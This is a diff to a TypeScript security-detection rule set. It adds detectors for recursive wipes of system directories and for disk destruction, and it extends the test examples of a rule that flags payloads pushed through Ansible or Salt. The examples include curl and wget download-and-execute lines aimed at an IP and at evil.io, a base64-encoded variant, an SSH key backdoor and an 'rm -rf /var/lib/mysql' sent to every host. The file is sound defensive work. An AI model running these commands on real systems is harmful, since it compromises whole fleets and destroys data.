@@ -106,6 +106,10 @@ const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'python', 'py
 const NOT_READERS = new Set(['echo', 'printf', 'ls', 'stat', 'test', '[', 'chmod', 'chown', 'touch', 'mkdir', 'ssh-keygen', 'which', 'man']);
 
 /** What makes a remote command an attack rather than administration; the first match names it. */
+/** System, data and home trees whose recursive removal on every host is an outage, not a cleanup. */
+const WIPE_TARGET = /^\/(?:\*?$|etc|home|root|srv|opt|boot|usr|data|var\/(?:lib|www|backups|log))(?:\/|$)/;
+const WIPERS = (c: Cmd) => c.name === 'shred' || (c.name === 'rm' && c.argv.some((a) => a === '--recursive' || /^-[a-zA-Z]*[rR]/.test(a)));
+
 function payloadOf(cmds: readonly Cmd[]): string | undefined {
   for (const c of cmds) {
     const line = c.argv.join(' ');
@@ -114,6 +118,9 @@ function payloadOf(cmds: readonly Cmd[]): string | undefined {
     if ((c.name === 'nc' || c.name === 'ncat' || c.name === 'netcat') && c.argv.some((a) => /^-[a-z]*[ec]$/.test(a))) return `reverse shell: ${line}`;
     if (c.name === 'chmod' && c.argv.some((a) => /^(\+x|[0-7]?[75][0-7][0-7]|u\+x|a\+x)$/.test(a)) && c.argv.some((a) => inTemp(a))) return `makes a temp file executable: ${line}`;
     if (inTemp(c.argv[0] ?? '')) return `runs a file from a temp directory: ${line}`;
+    const wiped = WIPERS(c) ? c.argv.slice(1).find((a) => WIPE_TARGET.test(a)) : undefined;
+    if (wiped !== undefined) return `wipes ${wiped}: ${line}`;
+    if ((c.name === 'dd' && c.argv.some((a) => a.startsWith('of=/dev/'))) || c.name.startsWith('mkfs') || c.name === 'wipefs') return `destroys a disk: ${line}`;
     if (c.name === 'pg_dumpall' || c.name === 'mongodump' || (c.name === 'mysqldump' && hasArgv(c, '-A', '--all-databases')) || (c.name === 'etcdctl' && c.argv.includes('get'))) return `dumps a data store: ${line}`;
     for (const r of c.redirects) {
       const k = r.op.startsWith('>') ? classifyPath(r.target) : undefined;
@@ -317,7 +324,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-003', name: 'fleet-tool-runs-payload', score: 88, tactic: 'lateral_movement', technique: 'T1072', strong: true,
     message: 'Pushes a download-and-execute, credential read or backdoor to many hosts through Ansible or Salt', why: 'Configuration-management tools run commands as root on every managed host at once; a payload through them compromises the fleet.',
     check: remotePayload(FLEET),
-    examples: { fire: ["ansible all -i /etc/ansible/hosts -m shell -a 'curl -s http://45.33.12.7/x | bash' -b", "ansible all -m raw -a \"echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys\" --become", "salt '*' cmd.run 'wget -qO- http://evil.io/s | sh'", 'ansible all -m shell -a "echo Y3VybCAtcyBodHRwOi8vNDUuMzMuMTIuNy94IHwgYmFzaA== | base64 -d | sh" -b'], quiet: ['ansible all -m ping', "ansible web -m shell -a 'df -h'", "salt '*' cmd.run 'systemctl restart nginx'", 'ansible-playbook site.yml --check'] },
+    examples: { fire: ["ansible all -i /etc/ansible/hosts -m shell -a 'curl -s http://45.33.12.7/x | bash' -b", "ansible all -m raw -a \"echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys\" --become", "salt '*' cmd.run 'wget -qO- http://evil.io/s | sh'", 'ansible all -m shell -a "echo Y3VybCAtcyBodHRwOi8vNDUuMzMuMTIuNy94IHwgYmFzaA== | base64 -d | sh" -b', "salt '*' cmd.run 'rm -rf /var/lib/mysql'"], quiet: ['ansible all -m ping', "salt '*' cmd.run 'rm -rf /tmp/build-cache'", "ansible web -m shell -a 'df -h'", "salt '*' cmd.run 'systemctl restart nginx'", 'ansible-playbook site.yml --check'] },
   },
   {
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
